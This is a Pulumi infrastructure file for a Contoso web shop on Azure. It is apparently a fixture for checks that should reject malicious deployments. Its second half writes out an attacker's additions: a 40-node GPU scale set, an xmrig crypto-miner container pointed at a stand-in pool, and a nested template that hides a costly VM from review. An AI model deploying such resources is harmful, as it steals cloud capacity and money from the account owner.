const compute = require("@pulumi/azure-native/compute");
const containerinstance = require("@pulumi/azure-native/containerinstance");
const network = require("@pulumi/azure-native/network");
const resources = require("@pulumi/azure-native/resources");
const storage = require("@pulumi/azure-native/storage");

// The web shop of Contoso: one small machine behind a network of its own, and a storage account for its pictures.

const location = "westeurope";
const group = new resources.ResourceGroup("contoso-web", { resourceGroupName: "contoso-web", location });
const resourceGroupName = group.name;

const vnet = new network.VirtualNetwork("web-net", {
  resourceGroupName,
  location,
  virtualNetworkName: "web-net",
  addressSpace: { addressPrefixes: ["10.20.0.0/16"] },
});

const subnet = new network.Subnet("web-subnet", {
  resourceGroupName,
  virtualNetworkName: vnet.name,
  subnetName: "web",
  addressPrefix: "10.20.1.0/24",
});

const nic = new network.NetworkInterface("web-nic", {
  resourceGroupName,
  location,
  ipConfigurations: [{ name: "primary", subnet: { id: subnet.id } }],
});

const ubuntu = { publisher: "Canonical", offer: "ubuntu-24_04-lts", sku: "server", version: "latest" };
const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIContosoContosoContosoContosoContosoCont web@contoso.com";
const osProfile = computerName => ({
  adminUsername: "contoso",
  computerName,
  linuxConfiguration: {
    disablePasswordAuthentication: true,
    ssh: { publicKeys: [{ keyData: key, path: "/home/contoso/.ssh/authorized_keys" }] },
  },
});

new compute.VirtualMachine("web", {
  resourceGroupName,
  location,
  vmName: "web",
  hardwareProfile: { vmSize: "Standard_D2s_v5" },
  networkProfile: { networkInterfaces: [{ id: nic.id, primary: true }] },
  osProfile: {
    ...osProfile("web"),
    customData: Buffer.from("#cloud-config\npackages: [nginx]\nruncmd:\n  - systemctl enable --now nginx\n").toString(
      "base64",
    ),
  },
  storageProfile: { imageReference: ubuntu, osDisk: { createOption: "FromImage" } },
});

new storage.StorageAccount("pictures", {
  resourceGroupName,
  location,
  accountName: "contosowebpictures",
  kind: "StorageV2",
  sku: { name: "Standard_LRS" },
  allowBlobPublicAccess: false,
  minimumTlsVersion: "TLS1_2",
});

// And what a thief adds, once a stolen password lets him deploy: all of it must be refused.

const farm = new compute.VirtualMachineScaleSet("render", {
  resourceGroupName,
  location: "southcentralus",
  vmScaleSetName: "render",
  sku: { name: "Standard_NC24ads_A100_v4", tier: "Standard", capacity: 40 },
  upgradePolicy: { mode: "Manual" },
  virtualMachineProfile: {
    osProfile: { adminUsername: "contoso", computerNamePrefix: "render" },
    storageProfile: { imageReference: ubuntu, osDisk: { createOption: "FromImage" } },
    networkProfile: {
      networkInterfaceConfigurations: [
        { name: "nic", primary: true, ipConfigurations: [{ name: "ip", subnet: { id: subnet.id } }] },
      ],
    },
  },
});

new compute.VirtualMachineScaleSetExtension("render-driver", {
  resourceGroupName,
  vmScaleSetName: farm.name,
  vmssExtensionName: "driver",
  publisher: "Microsoft.HpcCompute",
  type: "NvidiaGpuDriverLinux",
  typeHandlerVersion: "1.10",
  autoUpgradeMinorVersion: true,
});

// The pool and the wallet are made up.
const wallet = `4A${"1Contoso".repeat(12)}`.slice(0, 95);
new containerinstance.ContainerGroup("thumbnails", {
  resourceGroupName,
  location,
  containerGroupName: "thumbnails",
  osType: "Linux",
  containers: [
    {
      name: "worker",
      image: "docker.io/library/alpine:3.20",
      command: ["/bin/sh", "-c", `./xmrig -o stratum+tcp://pool.contoso.com:3333 -u ${wallet} --donate-level 1 -k`],
      resources: { requests: { cpu: 4, memoryInGB: 4 } },
    },
  ],
});

// A template in a template: whoever looks only at the outer resource sees nothing of the machine in it.
new resources.Deployment("maintenance", {
  resourceGroupName,
  deploymentName: "maintenance",
  properties: {
    mode: "Incremental",
    template: {
      $schema: "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
      contentVersion: "1.0.0.0",
      resources: [
        {
          type: "Microsoft.Resources/deployments",
          apiVersion: "2022-09-01",
          name: "inner",
          properties: {
            mode: "Incremental",
            expressionEvaluationOptions: { scope: "inner" },
            template: {
              $schema: "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
              contentVersion: "1.0.0.0",
              variables: { size: "[concat('Standard_', 'ND96', 'isr_H100_v5')]" },
              resources: [
                {
                  type: "Microsoft.Compute/virtualMachines",
                  apiVersion: "2024-07-01",
                  name: "patch",
                  location: "eastus2",
                  properties: { hardwareProfile: { vmSize: "[variables('size')]" } },
                },
              ],
            },
          },
        },
      ],
    },
  },
});
